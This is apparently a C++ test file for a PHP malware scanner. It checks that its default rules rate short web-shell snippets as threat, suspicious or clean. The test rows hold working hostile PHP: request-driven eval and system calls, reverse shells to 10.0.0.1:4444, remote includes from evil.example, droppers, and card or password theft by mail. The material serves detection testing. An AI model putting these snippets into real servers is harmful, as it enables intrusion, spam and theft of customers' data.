// The shipped default rules, built and enciphered, scored through the host
// adapter with the options qzscan sets: short scripts written from the
// techniques shells use must get their verdict, and the benign look-alike
// scripts in tests/rules/lookalikes must stay clean.

#include <qzengine/qzengine.h>
#include <qzengine/qzwrapper.h>

#include <gtest/gtest.h>

#include <dirent.h>
#include <algorithm>
#include <string>
#include <vector>

namespace {

enum class Verdict { Clean, Suspicious, Threat };

const char* name_of(Verdict v) {
  return v == Verdict::Threat ? "threat" : v == Verdict::Suspicious ? "suspicious" : "clean";
}

struct Seen : threat::threat_handler {
  int on_threat(threat::threat_info*, int) override { return called = true, 0; }
  bool called = false;
};

// The look-alike folder must hold at least this many scripts, so that a
// missing or emptied folder fails instead of passing with nothing checked.
constexpr size_t kMinLookalikes = 15;

class DefaultRules : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(qz_engine_wrapper_init(QZ_BINARY_DIR "/rules/default.rules"));
    qz_engine_set_options(QZ_OPT_EXTENDED_TAGS | QZ_OPT_FULL_DECODE | QZ_OPT_BINARY_SAFE |
                          QZ_OPT_LIMIT_FINDINGS | QZ_OPT_MEMORY_BUDGET | QZ_OPT_INTERPRETER_REACH);
  }
  void TearDown() override { qz_engine_wrapper_uninit(); }

  static Verdict verdict(int threat, const Seen& seen) {
    return threat ? Verdict::Threat : seen.called ? Verdict::Suspicious : Verdict::Clean;
  }
  Verdict scan_text(std::string text) {
    threat::threat_info info{};
    Seen seen;
    int threat = qz_engine_wrapper_scan_buff(&text[0], text.size(), &info, &seen);
    return verdict(threat, seen);
  }
  Verdict scan_path(std::string path) {
    threat::threat_info info{};
    Seen seen;
    int threat = qz_engine_wrapper_scan_file(&info, &path[0], &seen);
    return verdict(threat, seen);
  }
};

TEST_F(DefaultRules, TechniqueVerdicts) {
  struct Row {
    const char* technique;
    const char* script;
    Verdict expected;
  };
  const Row rows[] = {
      // Code evaluated from the request, directly or through a decoder.
      {"eval of a request item", "<?php eval($_POST['c']);", Verdict::Threat},
      {"assert in a later argument", "<?php @assert('1', $_REQUEST['x']);", Verdict::Threat},
      {"eval of decoded request text", "<?php @eval(base64_decode($_POST['z']));", Verdict::Threat},
      {"eval of a decoded literal", "<?php eval(base64_decode('ZWNobyAnaGknOw=='));",
       Verdict::Threat},
      {"eval of code reading the request", "<?php $c = '$x = $_GET[\"a\"];'; eval($c);",
       Verdict::Threat},
      {"eval of a header", "<?php eval(getenv('HTTP_X_CODE'));", Verdict::Threat},
      {"eval of the request body decrypted", "<?php $k = 'x';\n"
       "eval(openssl_decrypt(file_get_contents('php://input'), 'aes-128-cbc', $k));", Verdict::Threat},
      {"eval of a stored text decrypted", "<?php eval(openssl_decrypt($blob, 'aes-128-cbc', $k));",
       Verdict::Suspicious},
      {"eval of a request item taken apart by list()",
       "<?php list($c, $k) = explode('|', $_POST['d']); eval($c);", Verdict::Threat},
      {"a name hidden by XOR with a key holding a NUL",
       "<?php $f = \"\\x12\\x1b\\x10\\x10\\x00\\x0b\" ^ 'abcdef'; $f($_GET['c']);", Verdict::Threat},
      {"decoded create_function body",
       "<?php $f = create_function('', base64_decode('ZWNobyAxOw==')); $f();", Verdict::Threat},
      {"eval of a value the scan cannot know",
       "<?php function d($s) { return strrev($s); } eval(d(k($x)));", Verdict::Suspicious},
      {"eval of an unknown call's value", "<?php eval(unwrap_payload($blob));",
       Verdict::Suspicious},
      {"eval of an assignment", "<?php eval('$v = ' . $expr . ';');", Verdict::Clean},
      {"eval of lines typed at the terminal",
       "<?php while (($l = fgets(STDIN)) !== false) { eval($l); }\n$s = fopen('php://stdin', 'r'); eval(fgets($s));\n"
       "eval(file_get_contents('php://stdin')); eval(readline('> '));",
       Verdict::Clean},
      {"create_function around assert",
       "<?php $f = create_function('$a', 'return assert($a);'); $f($x);", Verdict::Threat},
      {"a command function spelled from a shuffled alphabet",
       "<?php $a = 'mtsye_xc'; $GLOBALS['q'] = $a[2] . $a[3] . $a[2] . $a[1] . $a[4] . $a[0];\n"
       "$GLOBALS['q']('uname -a');",
       Verdict::Threat},
      {"other functions spelled from a shuffled alphabet",
       "<?php $a = 'lmaiedf_'; $m = $a[1] . $a[2] . $a[3] . $a[0]; $m($to, $subject, $body);",
       Verdict::Suspicious},
      {"a colour code widened from its digits",
       "<?php $c = 'fa0'; $rgb = $c[0] . $c[0] . $c[1] . $c[1] . $c[2] . $c[2];\n"
       "$f = 'format_' . $c[0]; echo $f($rgb);",
       Verdict::Clean},
      {"create_function for a callback",
       "<?php usort($a, create_function('$x,$y', 'return $x - $y;'));", Verdict::Suspicious},
      {"code in the parameter slot of create_function",
       "<?php $f = create_function('){}system(\"id\");//', ''); $f();", Verdict::Threat},
      {"create_function without parameters", "<?php $f = create_function('', 'return 1;');",
       Verdict::Suspicious},
      {"regex with e carried in YAML",
       "<?php yaml_parse('x: ! \"|.+|e\"', 0, $n, array('!' => 'preg_replace'));", Verdict::Threat},
      {"preg_replace with e", "<?php preg_replace('/.*/e', $_POST['code'], 'x');", Verdict::Threat},
      {"mb_ereg_replace with e", "<?php mb_ereg_replace('.*', $_REQUEST['c'], 'x', 'e');",
       Verdict::Threat},
      // Functions and callbacks chosen by the request.
      {"request-named function", "<?php $f = $_GET['f']; $f($_GET['a']);", Verdict::Threat},
      {"request-named callback", "<?php call_user_func($_GET['cb'], $_GET['a']);", Verdict::Threat},
      {"request-named sort callback", "<?php usort($list, $_COOKIE['cmp']);", Verdict::Threat},
      {"assert as a filter callback", "<?php array_filter(array($_POST['x']), 'assert');",
       Verdict::Threat},
      {"reflection of a request name",
       "<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);", Verdict::Threat},
      {"command function as an output callback",
       "<?php ob_start('system'); echo $_GET['c']; ob_end_flush();", Verdict::Threat},
      {"command function mapped over the request", "<?php array_map('passthru', $_POST);",
       Verdict::Threat},
      {"tick callback on a request value",
       "<?php declare(ticks=1); register_tick_function($cb, $_REQUEST['c']);", Verdict::Threat},
      {"request array spread into a sort", "<?php usort(...$_GET);", Verdict::Threat},
      {"format arguments spread from a list of the script's",
       "<?php $parts = array('en', 'US'); printf('%s_%s', ...$parts); usort($rows, ...$order_by);",
       Verdict::Clean},
      {"request array walked by a method", "<?php array_walk($_GET, array($this, 'clean'));",
       Verdict::Clean},
      {"request array sorted by a fixed comparator", "<?php usort($_GET, 'strcmp');",
       Verdict::Clean},
      {"request array sorted by an inline comparator",
       "<?php usort($_POST, function ($a, $b) { return $a <=> $b; });", Verdict::Clean},
      {"handler picked from a table on a request value",
       "<?php $fn = $this->handlers[$k]; $fn($_POST['x']);", Verdict::Suspicious},
      {"eval beside URL escapes",
       "<?php $n = urldecode('%62%61%73%65'); eval(unknown_pick($n, $blob));", Verdict::Threat},
      {"eval beside hex rebuilding",
       "<?php $s = ''; foreach (str_split($_POST['h'], 2) as $p) { $s .= chr(hexdec($p)); }\n"
       "eval($s);",
       Verdict::Threat},
      {"eval and hex digits apart, as a directory library has them",
       "<?php $rid = hexdec(substr($sid, 2, 8)); $f = eval(build_sorter($key));",
       Verdict::Suspicious},
      {"payload from a cookie, XORed with a key, unserialized and evaluated",
       "<?php foreach ($_COOKIE as $v) { $p = $v; } $k = 'secret'; $d = ''; $p = base64_decode($p);\n"
       "for ($i = 0; $i < strlen($p); $i++) { $d .= chr(ord($p[$i]) ^ ord($k[$i % 6])); }\n"
       "$a = unserialize($d); if ($a['a'] == 'e') { eval($a['d']); }",
       Verdict::Threat},
      {"function name kept as a number and written out in hex",
       "<?php $n = hex2bin(dechex(1937339252)) . 'em'; $n($_GET['c']);", Verdict::Threat},
      {"request code hidden in an array key and flipped into a run-time function",
       "<?php $a = array(\"x;}{$_POST['z']};/*\" => 'k'); $b = array_flip($a); create_function('$v', $b['k']);",
       Verdict::Threat},
      {"lookup table flipped to find a code by its label",
       "<?php $codes = array('de' => 'German', 'fr' => 'French'); $by = array_flip($codes);\n"
       "echo isset($by[$_GET['l']]) ? $by[$_GET['l']] : 'en';",
       Verdict::Clean},
      {"command function kept in the globals under a built name",
       "<?php $GLOBALS['f' . 'n'] = 'sys' . 'tem'; $GLOBALS['fn']($_GET['c']);", Verdict::Threat},
      {"preferences unserialized from a cookie and printed",
       "<?php $c = unserialize($_COOKIE['cart']); echo htmlspecialchars($c['item']);",
       Verdict::Suspicious},
      {"request data appended to a PHP opening in a text file, which is then required",
       "<?php if (isset($_GET['c'])) { file_put_contents('notes.txt', \"<?php\\n\");\n"
       "file_put_contents('notes.txt', $_GET['c'], FILE_APPEND); require 'notes.txt'; }",
       Verdict::Threat},
      {"settings cached as PHP and included",
       "<?php $conf = array('lang' => 'en', 'items' => 20);\n"
       "file_put_contents('cache/conf.php', '<?php return ' . var_export($conf, true) . ';');\n"
       "$settings = include 'cache/conf.php';",
       Verdict::Clean},
      {"a remote script saved under the name its address ends in",
       "<?php $u = 'http://cdn.example.net/t/tool.php'; $f = pathinfo($u, PATHINFO_BASENAME);\n"
       "file_put_contents($f, file_get_contents($u));",
       Verdict::Threat},
      {"a remote image saved under the name its address ends in",
       "<?php $u = 'http://cdn.example.net/t/logo.png'; $f = 'cache/' . pathinfo($u, PATHINFO_BASENAME);\n"
       "file_put_contents($f, file_get_contents($u));",
       Verdict::Clean},
      {"a command of old PHP's request globals, cleaned into itself and run",
       "<?php if ($action == 'shellgo') { $cmd = stripslashes($cmd); system($cmd); }",
       Verdict::Threat},
      {"request data unserialized beside a destructor that evaluates a field",
       "<?php class Logger { var $msg = ''; function __destruct() { eval($this->msg); } }\n"
       "unserialize($_GET['state']);",
       Verdict::Threat},
      {"a cart unserialized from a cookie beside a destructor that closes its file",
       "<?php class Cart { var $fp; function __destruct() { if ($this->fp) fclose($this->fp); } }\n"
       "$c = unserialize($_COOKIE['cart']); echo count($c->items);",
       Verdict::Suspicious},
      {"checksum of posted bytes",
       "<?php $s = $_POST['d']; $c = 0; for ($i = 0; $i < strlen($s); $i++) { $c ^= ord($s[$i]); }"
       " echo dechex($c);",
       Verdict::Clean},
      {"file reversed before evaluation", "<?php eval(strrev(file_get_contents('data.bin')));",
       Verdict::Threat},
      {"download reversed before evaluation",
       "<?php $h = fopen('http://cdn.example.org/a.txt', 'r'); eval(strrev(fread($h, 9999)));",
       Verdict::Threat},
      {"file reversed and printed", "<?php echo strrev(file_get_contents('notes.txt'));",
       Verdict::Suspicious},
      {"code reversed in the script itself", "<?php eval(strrev(';1 nruter'));", Verdict::Clean},
      {"compiled template read and evaluated",
       "<?php eval('?>' . file_get_contents('cache/page.tpl.php'));", Verdict::Clean},
      {"command functions listed",
       "<?php foreach (array('system', 'exec', 'passthru', 'shell_exec') as $f) {\n"
       "  if (function_exists($f)) { break; } }",
       Verdict::Suspicious},
      // Commands.
      {"command from the request", "<?php system($_GET['cmd']);", Verdict::Threat},
      {"backticks around a request item", "<?php echo `{$_POST['c']}`;", Verdict::Threat},
      {"command from the session", "<?php session_start(); passthru($_SESSION['c']);",
       Verdict::Threat},
      {"decoded command", "<?php shell_exec(base64_decode('aWQ='));", Verdict::Threat},
      {"command from a header", "<?php system(getenv('HTTP_X_CMD'));", Verdict::Threat},
      {"command from a header read from the server array", "<?php passthru($_SERVER['HTTP_X_CMD']);",
       Verdict::Threat},
      {"command from the query string", "<?php exec(urldecode($_SERVER['QUERY_STRING']));", Verdict::Threat},
      {"command built from the document root", "<?php exec($_SERVER['DOCUMENT_ROOT'] . '/bin/thumbs');",
       Verdict::Suspicious},
      {"web terminal command", "<?php echo shell_exec('cd /tmp; ' . $line . ' 2>&1; pwd');",
       Verdict::Suspicious},
      {"function its own file name spells, handed request data",
       "<?php $f = substr(__FILE__, -10, -4); $f($_POST['c']);", Verdict::Threat},
      {"page handler named after its file", "<?php $fn = 'render_' . basename(__FILE__, '.php'); $fn($_GET['id']);",
       Verdict::Clean},
      {"console of old PHP's request globals: the variable asked about, then run",
       "<?php if (empty($command)) exit;\n$out = system(\"$command > out.txt 2>&1\");", Verdict::Threat},
      {"script removing itself", "<?php echo 'done'; unlink(__FILE__);", Verdict::Suspicious},
      {"three shell functions", "<?php system('id'); exec('uname -a'); shell_exec('pwd');",
       Verdict::Suspicious},
      {"shell over a socket",
       "<?php $s = fsockopen('10.0.0.1', 4444);\n"
       "proc_open('/bin/sh -i', array($s, $s, $s), $p);",
       Verdict::Threat},
      {"commands over a connection",
       "<?php $s = fsockopen('10.0.0.1', 4444);\n"
       "while (!feof($s)) { fputs($s, shell_exec(fgets($s))); }",
       Verdict::Threat},
      {"windows shell object", "<?php $w = new COM('WScript.Shell'); $w->Run('cmd');",
       Verdict::Threat},
      {"database server the request names", "<?php mysql_connect($_POST['host'], 'root', '');",
       Verdict::Suspicious},
      {"database server writes a binary file",
       "<?php mysql_query(\"SELECT d FROM t INTO DUMPFILE '/usr/lib/x.so'\");", Verdict::Threat},
      {"native library loaded into the database",
       "<?php $db->query(\"CREATE FUNCTION run RETURNS STRING SONAME 'x.so'\");", Verdict::Threat},
      {"listening socket on every address",
       "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '0.0.0.0', 1080);",
       Verdict::Suspicious},
      {"forked socket flooder",
       "<?php for ($i = 0; $i < 8; $i++) { pcntl_fork(); }\n"
       "$s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, $h, 80);\n"
       "while (true) { socket_write($s, str_repeat('x', 1024)); }",
       Verdict::Suspicious},
      {"folder browsed where the request says",
       "<?php chdir($_REQUEST['d']); print_r(scandir('.'));", Verdict::Suspicious},
      {"every request value a variable", "<?php extract($_POST); echo $name;", Verdict::Suspicious},
      // Request items as variables of the script, as old PHP made them.
      {"request variables imported, then a command", "<?php import_request_variables('gpc'); system($cmd);",
       Verdict::Threat},
      {"request array extracted, then code", "<?php extract($_REQUEST); eval($code);", Verdict::Threat},
      {"command from a variable nothing assigns", "<?php if (!empty($c)) { echo '<pre>'; passthru($c); }",
       Verdict::Threat},
      {"code from a variable nothing assigns", "<?php @eval($x);", Verdict::Threat},
      {"command from a variable a helper gets as its parameter",
       "<?php function run($cmd) { exec($cmd, $out); return $out; }", Verdict::Clean},
      {"command from a variable an included file sets",
       "<?php require __DIR__ . '/settings.php'; echo shell_exec($command);", Verdict::Clean},
      {"command from a variable extracted from the script's own settings",
       "<?php extract(parse_ini_file('tool.ini')); system($cmd);", Verdict::Clean},
      {"command in a loop over values the scan cannot know",
       "<?php foreach (load_jobs() as $job) { exec($job); }", Verdict::Clean},
      {"a relay telling the shell behind it which decoder to call",
       "<?php $u = 'http://203.0.113.5/up/s.php?&k=base64_decode';\n"
       "$c = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query($_POST))));\n"
       "echo file_get_contents($u, false, $c);",
       Verdict::Threat},
      {"an API call naming the encoding it wants back",
       "<?php echo file_get_contents('https://api.example.com/v1/item?id=7&encoding=base64');", Verdict::Clean},
      {"fetch from a request host", "<?php echo file_get_contents('http://' . $_GET['h'] . '/x');",
       Verdict::Suspicious},
      {"downloaded code beside eval",
       "<?php $c = curl_init('http://203.0.113.9/p.txt'); $t = curl_exec($c);\n"
       "eval('?>' . unknown_fix($t));",
       Verdict::Suspicious},
      {"connections kept open after the visitor left",
       "<?php ignore_user_abort(true); while (true) { $s = fsockopen($h, 80); fclose($s); }",
       Verdict::Suspicious},
      {"a flood of packets to an address resolved from the request",
       "<?php ignore_user_abort(true); $ip = gethostbyname($_REQUEST['ip']);\n"
       "while (time() < $end) { $s = fsockopen(\"udp://$ip\", $_REQUEST['port']); fwrite($s, $junk); }",
       Verdict::Threat},
      {"a tunnel to where a request header says, through a stand-in for the header function",
       "<?php if (!function_exists('apache_request_headers')) { function apache_request_headers() { return array(); } }\n"
       "$h = apache_request_headers(); $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\n"
       "socket_connect($s, $h['X-TARGET'], (int)$h['X-PORT']); socket_write($s, file_get_contents('php://input'));",
       Verdict::Threat},
      {"a monitor pinging the hosts of its own list over a raw socket",
       "<?php $s = socket_create(AF_INET, SOCK_RAW, 1); foreach ($hosts as $h) { socket_connect($s, $h['ip'], 0); }",
       Verdict::Clean},
      {"a status page resolving the site's own mail host",
       "<?php $ip = gethostbyname('mail.example.org'); $s = @fsockopen($ip, 25, $e, $m, 2);\n"
       "echo $s ? 'up' : 'down';",
       Verdict::Clean},
      {"cookies harvested into a file named as an image",
       "<?php $d = base64_encode(serialize($_POST) . '--' . serialize($_COOKIE));\n"
       "file_put_contents('media/catalog/1/cache.jpg', $d . \"\\n\", FILE_APPEND);",
       Verdict::Threat},
      {"cookies written through a handle of an image file",
       "<?php $f = fopen('img/x.gif', 'a'); fwrite($f, json_encode($_COOKIE));", Verdict::Threat},
      {"a drawing the browser sent stored as an image",
       "<?php $png = base64_decode(substr($_POST['image'], 22));\n"
       "file_put_contents('uploads/' . md5($png) . '.png', $png);",
       Verdict::Clean},
      {"log-in as the first administrator",
       "<?php foreach ($wpdb->get_results('SELECT ID FROM u') as $u) {\n"
       "if (user_can($u->ID, 'administrator')) { wp_set_current_user($u->ID);\n"
       "wp_set_auth_cookie($u->ID); exit; } }",
       Verdict::Suspicious},
      {"switch to a user by an administrator who is logged in",
       "<?php if (current_user_can('edit_users')) { $id = (int) $_GET['user'];\n"
       "wp_set_current_user($id); wp_set_auth_cookie($id); }",
       Verdict::Clean},
      {"regex fed from image metadata",
       "<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');",
       Verdict::Threat},
      {"a gallery tidying the camera name it read from a photo",
       "<?php $e = exif_read_data($path); echo preg_replace('/\\s+/', ' ', $e['Model']);",
       Verdict::Clean},
      {"a file the request names made writable by everyone",
       "<?php $p = stripslashes($_GET['path']); if (chmod($p, 0777)) echo 'ok';", Verdict::Threat},
      {"an upload made readable by its owner's group", "<?php chmod($_POST['f'], 0755);",
       Verdict::Suspicious},
      {"a defacement notice written over the front page",
       "<?php $fp = fopen('index.php', 'w'); fputs($fp, '<h1>HACKED BY someone</h1>'); fclose($fp);",
       Verdict::Threat},
      {"a changelog that says a site was hacked",
       "<?php file_put_contents('notes.txt', \"after the site was hacked, by then...\");", Verdict::Clean},
      // Code loaded from the request or the network.
      {"include of a request path", "<?php include $_GET['page'];", Verdict::Threat},
      {"include of a URL", "<?php include 'http://evil.example/x.txt';", Verdict::Threat},
      {"include of an image", "<?php include 'uploads/avatar.jpg';", Verdict::Threat},
      // Uploaders and droppers.
      {"upload stored under the client's name",
       "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . $_FILES['f']['name']);",
       Verdict::Threat},
      {"copy to a request path", "<?php copy($_FILES['f']['tmp_name'], $_GET['to']);",
       Verdict::Threat},
      {"upload read back and written to a path of the upload alone (its own temporary file or its name)",
       "<?php $t = $_FILES['f']['tmp_name']; $_SESSION['k'] = file_get_contents($t);\n"
       "if (isset($_SESSION['k'])) { $t = sys_get_temp_dir() . '/k'; file_put_contents($t, $_SESSION['k']); }",
       Verdict::Clean},
      {"upload read back and written into a folder under the client's name",
       "<?php $d = 'files/'; $n = $_FILES['up']['name'];\n"
       "file_put_contents($d . $n, file_get_contents($_FILES['up']['tmp_name']));",
       Verdict::Threat},
      {"upload read back and stored under a name the application makes",
       "<?php $data = file_get_contents($_FILES['f']['tmp_name']);\n"
       "file_put_contents(__DIR__ . '/store/' . sha1($data) . '.bin', $data);",
       Verdict::Clean},
      {"upload read back and parsed", "<?php $rows = str_getcsv(file_get_contents($_FILES['csv']['tmp_name']));",
       Verdict::Clean},
      {"upload read back and evaluated", "<?php eval(file_get_contents($_FILES['f']['tmp_name']));",
       Verdict::Threat},
      {"file opened at a folder and a name from the request",
       "<?php $h = fopen($_POST['d'] . '/' . $_POST['n'], 'w'); fwrite($h, 'x'); fclose($h);", Verdict::Threat},
      {"decoded text to a request path",
       "<?php file_put_contents($_GET['n'], base64_decode($_POST['d']));", Verdict::Threat},
      {"dropped script reading the request",
       "<?php file_put_contents('x.php', '<?php eval($_POST[1]);');", Verdict::Threat},
      {"file opened by request name", "<?php $h = fopen($_POST['f'], 'w'); fwrite($h, 'x');",
       Verdict::Threat},
      {"handler settings written",
       "<?php file_put_contents('.htaccess', \"AddType application/x-httpd-php .jpg\");",
       Verdict::Threat},
      {"remote script downloaded", "<?php copy('http://evil.example/s.txt', 's.php');",
       Verdict::Threat},
      {"native program written",
       "<?php file_put_contents('/tmp/x.so', \"\\x7fELF\\x02\\x01\\x01\");", Verdict::Threat},
      {"script written under the web root",
       "<?php $h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/x.php', 'w');\n"
       "fwrite($h, fetch_remote());",
       Verdict::Suspicious},
      {"mailer with request headers in a loop",
       "<?php foreach (file('list.txt') as $to) {\n"
       "  mail($to, $_POST['s'], $_POST['b'], 'From: ' . $_POST['f']); }",
       Verdict::Suspicious},
      {"mass mailer", "<?php mail($_POST['to'], $_POST['s'], $_POST['b'], $_POST['h']);",
       Verdict::Threat},
      {"mail bomber: one request recipient mailed in a while loop",
       "<?php $to = $_POST['to']; $n = 0;\nwhile ($n < 500) { mail($to, 'Hi', $_POST['m']); $n++; }",
       Verdict::Threat},
      {"mass mailer over a request list by index",
       "<?php $r = explode(',', $_GET['list']);\n"
       "for ($i = 0; $i < count($r); $i++) { mail($r[$i], 'News', 'Visit our shop'); }",
       Verdict::Threat},
      {"mass mailer through a helper called in a loop",
       "<?php function send($a, $b) { return mb_send_mail($a, 'Offer', $b); }\n"
       "foreach (preg_split('/\\s+/', $_POST['to']) as $a) send($a, 'Cheap');",
       Verdict::Threat},
      {"newsletter to the site's subscribers in a loop",
       "<?php foreach ($db->query('SELECT email FROM subscribers') as $row) {\n"
       "  mail($row['email'], $_POST['subject'], $_POST['body'], 'From: news@example.org'); }",
       Verdict::Clean},
      {"one mail to the address a visitor gave",
       "<?php mail($_POST['email'], 'Your registration', 'Welcome', 'From: site@example.org');", Verdict::Clean},
      {"mail server dialogue by hand with a request recipient",
       "<?php $s = fsockopen('mx.example.net', 25); fputs($s, \"HELO x\\r\\n\");\n"
       "foreach (explode(';', $_POST['rcpt']) as $r) fputs($s, 'RCPT TO:<' . $r . \">\\r\\n\");\n"
       "fputs($s, \"DATA\\r\\n\" . $_POST['body'] . \"\\r\\n.\\r\\n\");",
       Verdict::Threat},
      {"mail server dialogue by hand to a fixed recipient",
       "<?php $s = fsockopen('localhost', 25); fwrite($s, \"rcpt to:<admin@example.org>\\r\\n\");\n"
       "fwrite($s, \"DATA\\r\\n\" . $_POST['msg'] . \"\\r\\n.\\r\\n\");",
       Verdict::Clean},
      {"query taken whole from the request", "<?php mysql_query($_GET['q']);", Verdict::Threat},
      // Code real applications write.
      {"fixed command", "<?php exec('git rev-parse HEAD', $out);", Verdict::Clean},
      {"database exec method", "<?php $db->exec('DELETE FROM s'); $db->query($sql);",
       Verdict::Clean},
      {"template compiled and evaluated",
       "<?php $t = file_get_contents('a.tpl'); $c = str_replace('{{', '<?php echo ', $t);\n"
       "eval('?>' . $c);",
       Verdict::Clean},
      {"contact form mail",
       "<?php mail('me@example.org', 'Contact', $_POST['m'], 'From: site@example.org');",
       Verdict::Clean},
      {"upload under a name the application makes",
       "<?php move_uploaded_file($_FILES['f']['tmp_name'], '/srv/up/' . "
       "md5_file($_FILES['f']['tmp_name']) . '.jpg');",
       Verdict::Clean},
      {"upload under the client's own name, basename() or not (any .php goes)",
       "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . "
       "basename($_FILES['f']['name']));",
       Verdict::Threat},
      {"upload under the client's name reduced to name characters (no dot, no slash)",
       "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . "
       "preg_replace('/[\\W]+/', '', $_FILES['f']['name']));",
       Verdict::Clean},
      {"upload under the client's name with its dots kept (a .php goes)",
       "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . "
       "preg_replace('/[^\\w.]+/', '', $_FILES['f']['name']));",
       Verdict::Threat},
      {"request array trimmed", "<?php $in = array_map('trim', $_POST);", Verdict::Clean},
      {"card number and code mailed from a payment step",
       "<?php $p = $order->getPayment(); $t = $p->getCcNumber() . '|' . $p->getCcCid();\n"
       "mail('x@example.net', 'cc', $t);",
       Verdict::Threat},
      {"card number handed to the gateway",
       "<?php $p = $order->getPayment(); $gw->charge($p->getCcNumber(), $p->getCcCid());",
       Verdict::Clean},
      {"fixed include", "<?php include __DIR__ . '/pages/home.php';", Verdict::Clean},
      {"page chosen by the request inside the application's folder",
       "<?php $p = isset($_GET['p']) ? basename($_GET['p']) : 'home'; include __DIR__ . "
       "\"/pages/$p.php\";",
       Verdict::Clean},
      {"include from a folder or host the request names",
       "<?php include($_REQUEST['e'] . '/errors.php');", Verdict::Threat},
      {"include of a path taken whole from the request",
       "<?php $f = $_GET['f'] ?? 'a.php'; include $f;", Verdict::Threat},
      {"fixed download", "<?php copy('https://cdn.example.org/logo.png', 'logo.png');",
       Verdict::Clean},
      {"cache unserialized", "<?php $v = unserialize(file_get_contents('c.cache'));",
       Verdict::Clean},
      {"image decoded to a file", "<?php file_put_contents('a.png', base64_decode($_POST['img']));",
       Verdict::Clean},
      // Fetches and mail that report to someone else.
      {"address taken whole from the request",
       "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, $_GET['u']); echo curl_exec($c);",
       Verdict::Suspicious},
      {"request value in the query of a fixed service",
       "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.example.org/find?q=' . "
       "$_GET['q']);",
       Verdict::Clean},
      {"site address sent to a fixed server",
       "<?php $s = $_SERVER['HTTP_HOST']; echo "
       "file_get_contents('http://links.example.net/l.php?site=' . $s);",
       Verdict::Suspicious},
      {"own page fetched by its address",
       "<?php $x = file_get_contents('https://' . $_SERVER['HTTP_HOST'] . '/feed');",
       Verdict::Clean},
      {"typed password mailed to a free mail address",
       "<?php $m = 'User: ' . $_POST['u'] . \"\\nPassword: \" . $_POST['p']; "
       "mail('drop@gmail.com', 'new', $m);",
       Verdict::Threat},
      {"notice about a password mailed to a free mail address, nothing typed in it",
       "<?php mail('owner@gmail.com', 'Notice', 'A customer changed their password on ' . date('c'));",
       Verdict::Suspicious},
      {"server paths mailed to a free mail address",
       "<?php mail('drop@yahoo.com', 'hi', $_SERVER['DOCUMENT_ROOT'] . \"\\n\" . "
       "$_SERVER['SCRIPT_FILENAME']);",
       Verdict::Suspicious},
      {"contact form to the owner's free mail address",
       "<?php mail('owner@gmail.com', 'Contact', 'From: ' . $_POST['name'] . \"\\n\" . "
       "$_POST['text']);",
       Verdict::Clean},
      {"remote script downloaded", "<?php copy('http://cdn.example.net/tools/x.php', $dest);",
       Verdict::Suspicious},
      {"request path probed for writing", "<?php if (is_writable($_POST['dir'])) echo 'ok';",
       Verdict::Suspicious},
      // Includes read by where the request stands in the path.
      {"remote include the request completes",
       "<?php include 'http://203.0.113.9/s/' . $_GET['p'];", Verdict::Threat},
      {"language folder the request names inside the application",
       "<?php $l = preg_replace('/[^a-z]/', '', $_GET['l']); require APP_DIR . 'lang/' . $l . '/strings.php';",
       Verdict::Clean},
      {"compiled template included from a data address",
       "<?php return include 'data://text/plain,' . urlencode(compile_template($src));",
       Verdict::Suspicious},
      {"HTML page included as a template", "<?php include __DIR__ . '/tpl/footer.html';", Verdict::Clean},
      {"PHP written into a page, then included",
       "<?php file_put_contents('cache.html', \"<?php\\n\" . $_GET['c']); require 'cache.html';",
       Verdict::Threat},
      {"helper program named by the environment", "<?php $p = popen(getenv('PAGER'), 'w');",
       Verdict::Suspicious},
      {"payload read from another file and evaluated", "<?php eval(file_get_contents('/tmp/.x/cache.dat'));",
       Verdict::Suspicious},
      // Request data that passes through an array on its way.
      {"command popped off an array", "<?php $b = array($_COOKIE['z']); exec(array_pop($b));",
       Verdict::Threat},
      {"code read as an array's current item", "<?php $d = array($_REQUEST['r']); eval(current($d));",
       Verdict::Threat},
      // Files and mail the request steers.
      {"file opened for writing at a path of two request values",
       "<?php $fp = fopen($_GET['d'] . $_GET['n'], 'w'); fwrite($fp, 'x');", Verdict::Threat},
      {"file written at a folder and a name from the request",
       "<?php file_put_contents($_POST['dir'] . '/' . $_POST['name'], 'x');", Verdict::Threat},
      {"file opened for writing under one request name", "<?php $fp = fopen('logs/' . $_GET['n'], 'a');",
       Verdict::Suspicious},
      {"mass mailer", "<?php foreach (explode(\"\\n\", $_POST['to']) as $t) mail($t, $_POST['s'], $_POST['b']);",
       Verdict::Threat},
      {"file opened at a request path and given request text",
       "<?php $h = fopen($_POST['p'], 'w'); fwrite($h, $_POST['t']); fclose($h);", Verdict::Threat},
      {"file opened at a fixed path and given request text",
       "<?php $h = fopen(__DIR__ . '/guestbook.txt', 'a'); fwrite($h, $_POST['t']);", Verdict::Clean},
      {"downloaded text written into a script",
       "<?php $c = curl_init('http://203.0.113.9/s.txt');\n"
       "curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $t = curl_exec($c);\n"
       "$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/x.php', 'w'); fwrite($h, $t);",
       Verdict::Threat},
      {"downloaded script stored whole",
       "<?php $s = fsockopen('203.0.113.9', 80); $t = fread($s, 65536);\n"
       "file_put_contents('cache.php', $t);",
       Verdict::Threat},
      // Shell escaping: a fixed program with escaped request arguments is what
      // applications do; escaping does not make a chosen command safe.
      {"fixed command with an escaped request argument",
       "<?php exec('convert ' . escapeshellarg($_GET['f']) . ' -resize 50% out.png');", Verdict::Clean},
      {"fixed command with an escaped and an unescaped request argument",
       "<?php exec('convert ' . escapeshellarg($_GET['f']) . ' ' . $_GET['o']);", Verdict::Threat},
      {"request command escaped whole", "<?php system(escapeshellcmd($_POST['c']));", Verdict::Threat},
      {"fixed program escaped whole with request arguments",
